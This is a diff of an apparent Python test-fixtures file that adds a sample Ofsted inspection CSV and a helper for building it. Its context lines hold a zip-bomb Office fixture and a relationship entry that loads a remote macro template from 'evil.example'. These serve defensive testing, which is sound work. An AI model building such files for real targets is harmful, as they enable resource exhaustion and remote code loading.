@@ -80,6 +80,18 @@ def bomb() -> bytes:
     return office(members={"word/media/a.bin": b"\x00" * 100 * 1024 * 1024})
 
 
+HEADINGS = (
+    "URN", "Inspection date", "Inspection type", "Overall experiences and progress of children and young people",
+    "How well children and young people are helped and protected", "The effectiveness of leaders and managers", "Publication date",
+)  # fmt: skip
+
+
+def published(*lines: str, headings: str = ",".join(HEADINGS)) -> str:
+    """A file as Ofsted publishes it; a line is cells with commas."""
+    return "\n".join([headings, *lines, ""])
+
+
+PUBLISHED = published("SC100001,01/03/2027,Full inspection,Good,Good,Outstanding,22/03/2027")
 OUTSIDE = RELS % b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
 LINKED = RELS % b'<Relationship Type="x/hyperlink" Target="https://www.gov.uk" TargetMode="External"/>'
 
